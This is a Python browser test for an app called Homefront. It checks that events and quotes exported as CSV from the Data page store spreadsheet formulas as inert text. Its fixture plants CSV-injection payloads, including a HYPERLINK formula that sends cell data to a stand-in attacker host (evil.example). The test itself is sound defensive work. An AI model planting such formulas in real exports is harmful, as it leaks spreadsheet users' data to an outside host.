"""Formula injection through a download, in real Chromium (issue 14.10): an event whose title
is a spreadsheet formula is downloaded from the Data page with the button, and the file holds
it as text (a leading apostrophe), never as a formula a spreadsheet would run."""

from __future__ import annotations

import csv
import shutil
from collections.abc import Iterator
from pathlib import Path

import pandas as pd
import pytest
import yaml

from tests.browser.harness import start_server, stop_server, wait_for_app

pytestmark = pytest.mark.browser
ROOT = Path(__file__).resolve().parents[2]
FORMULAS = {
    "title": '=HYPERLINK("http://evil.example/?x="&A1,"Click for source")',
    "summary": "+1+1 and then some",
    "date_note": "-2+3",
}
SPEAKER = "@SUM(A1:A9)"


@pytest.fixture(scope="module")
def poisoned_url(tmp_path_factory) -> Iterator[str]:
    data = tmp_path_factory.mktemp("formulas") / "data"
    shutil.copytree(ROOT / "data", data)
    events = yaml.safe_load((data / "events.yaml").read_text(encoding="utf-8"))
    target = next(e for e in events if e["id"] == "invasion-begins")
    target.update(FORMULAS)
    target["quotes"][0]["speaker"] = SPEAKER
    (data / "events.yaml").write_text(yaml.safe_dump(events, allow_unicode=True), "utf-8")
    process, url = start_server({"HOMEFRONT_DATA_DIR": str(data)})
    yield url
    stop_server(process)


def test_a_formula_in_the_data_is_text_in_every_download(page, poisoned_url):
    page.set_viewport_size({"width": 1440, "height": 900})
    page.goto(f"{poisoned_url}/data")
    wait_for_app(page)
    for tab, file, column, value in (
        ("Events", "homefront_events", "title", FORMULAS["title"]),
        ("Events", "homefront_events", "summary", FORMULAS["summary"]),
        ("Events", "homefront_events", "date_note", FORMULAS["date_note"]),
        ("Quotes", "homefront_quotes", "speaker", SPEAKER),
    ):
        page.get_by_role("tab", name=tab, exact=False).first.click()
        with page.expect_download(timeout=30_000) as info:
            page.locator(f'[class*="st-key-download_{file}"] button').click()
        path = info.value.path()
        with open(path, encoding="utf-8-sig", newline="") as f:
            rows = list(csv.DictReader(f))
        cells = [row[column] for row in rows]
        assert "'" + value in cells, f"{file}.{column}: the formula is not neutralised"
        assert value not in cells
        every_cell = [cell for row in rows for cell in row.values()]
        assert not [c for c in every_cell if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
        assert len(pd.read_csv(path)) == len(rows)  # and pandas opens it with no options
    page.watch.assert_clean()
